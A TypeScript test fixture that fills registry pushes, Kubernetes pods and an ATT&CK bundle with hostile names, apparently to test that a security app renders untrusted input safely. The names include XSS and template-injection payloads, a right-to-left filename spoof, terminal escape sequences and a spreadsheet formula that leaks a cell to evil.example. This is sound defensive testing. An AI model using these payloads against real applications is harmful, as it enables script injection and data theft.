import { bundleOf, type Made, OBJECTS } from '../../src/attack/bundle.fixture.ts';
import { digestOf, pod, push } from '../../src/app/http/api/api.fixture.ts';

/** What an attacker calls things. `__ran` is set by whichever of them runs. */
export const HOSTILE = {
  image: `<img src=x onerror="window.__ran='image'">`,
  script: `"><script>window.__ran='script'</script><svg onload=window.__ran='svg'>`,
  link: `javascript:window.__ran='link'//`,
  template: `{{constructor.constructor("window.__ran='template'")()}}\${window.__ran='literal'}<%= 1 %>`,
  long: `${'W'.repeat(100_000)}`,
  turned: 'invoice\u202egnp.exe\u2066\u200f',
  unseen: 'zero\u200bwidth\u200d\ufeff\u00ad',
  nul: 'nul\u0000byte\r\nline',
  half: 'half\ud800character',
  formula: `=HYPERLINK("https://evil.example/?leak="&A1,"open")`,
  terminal: '\u001b]8;;https://evil.example\u0007click\u001b[31m\u009b2J',
  encoded: '100%2f..%2f..%zz?a=b&c#d\\',
} as const;
export const HOSTILE_NAMES = Object.values(HOSTILE);

/** Digests of their own, one a name. */
export const hostileDigest = (index: number): string => digestOf('0123456789ab'.charAt(index));
export const hostileRepository = (index: number): string => `hostile/image-${index}`;

/** Registry notifications in which a name stands wherever its sender can write it. */
export function hostilePushes(name: string, index: number): readonly object[] {
  const letter = '0123456789ab'.charAt(index);
  const told = Object(push(`hostile-${index}`, `${hostileRepository(index)}:1`, letter, name, 40));
  const named = {
    ...told,
    request: { ...told.request, useragent: name, id: name },
    source: { addr: name, instanceID: name },
  };
  return [
    named,
    // These are no names of images: they are refused, and the refusals are told.
    { ...named, id: `${index}-a`, target: { ...told.target, repository: name } },
    { ...named, id: `${index}-b`, target: { ...told.target, tag: name } },
    { ...named, id: `${index}-c`, request: { ...told.request, addr: name } },
    { ...named, id: `${index}-d`, action: name, target: { ...told.target, mediaType: name } },
  ];
}

/** Pods in which a name stands wherever whoever makes pods can write it. */
export function hostilePods(name: string, index: number): readonly object[] {
  const letter = '0123456789ab'.charAt(index);
  const told = Object(pod(`hostile-${index}`, `${hostileRepository(index)}:1`, letter, 30));
  const [container] = told.spec.containers;
  const [status] = told.status.containerStatuses;
  const owner = { apiVersion: 'apps/v1', kind: 'ReplicaSet', name, uid: `owner-${index}`, controller: true };
  const named = {
    ...told,
    metadata: {
      ...told.metadata,
      name,
      namespace: name,
      labels: { [name]: name },
      annotations: { [name]: name },
      ownerReferences: [owner],
    },
    spec: { ...told.spec, nodeName: name, serviceAccountName: name, containers: [{ ...container, name }] },
    status: { ...told.status, containerStatuses: [{ ...status, name }] },
  };
  return [
    named,
    {
      ...named,
      metadata: { ...named.metadata, uid: `${index}-b` },
      spec: { ...named.spec, containers: [{ ...container, name, image: name }] },
    },
    {
      ...named,
      metadata: { ...named.metadata, uid: `${index}-c` },
      status: { ...named.status, containerStatuses: [{ ...status, name, imageID: name }] },
    },
  ];
}

/** A record of the recorded day with a name instead of every text that is not read as a digest, time, kind or address. */
export function renamed(record: unknown, name: string): unknown {
  if (Array.isArray(record)) return record.map((one: unknown) => renamed(one, name));
  if (typeof record !== 'object' || record === null) return record;
  return Object.fromEntries(
    Object.entries(record).map(([key, value]): [string, unknown] => [
      key,
      FREE.has(key) && typeof value === 'string' ? name : renamed(value, name),
    ]),
  );
}

const FREE = new Set([
  'alternateId',
  'displayName',
  'rawUserAgent',
  'username',
  'userAgent',
  'workflow_name',
  'head_branch',
  'login',
  'runner_name',
  'path',
  'display_title',
  'says',
  'Name',
  'containerName',
]);

/** A release of ATT&CK in which a name stands wherever MITRE's words do. */
export function hostileBundle(): Buffer {
  const names = HOSTILE_NAMES.map((name) => name.slice(0, 900));
  const [first = ''] = names;
  const described = (one: Made, attackId: string, name: string): Made => ({
    ...one,
    name,
    description: name,
    external_references: [{ source_name: 'mitre-attack', external_id: attackId, url: names[2], description: name }],
  });
  const analytic = {
    ...described(OBJECTS.analytic, 'AN0946', first),
    x_mitre_log_source_references: names.map((name) => ({
      x_mitre_data_component_ref: OBJECTS.component['id'],
      name,
      channel: name,
    })),
    x_mitre_mutable_elements: names.map((name) => ({ field: name, description: name })),
  };
  const techniques = names.map((name, index) => ({
    ...described(OBJECTS.technique, index === 0 ? 'T1525' : `T8${String(index).padStart(3, '0')}`, name),
    id: `attack-pattern--00000000-0000-4000-8000-${String(800 + index).padStart(12, '0')}`,
  }));
  const component = described(OBJECTS.component, 'DC0015', first);
  const strategy = described(OBJECTS.strategy, 'DET0337', names[1] ?? '');
  const mitigation = described(OBJECTS.mitigation, 'M1045', names[4] ?? '');
  return bundleOf([analytic, component, strategy, mitigation, ...techniques], '18.9');
}
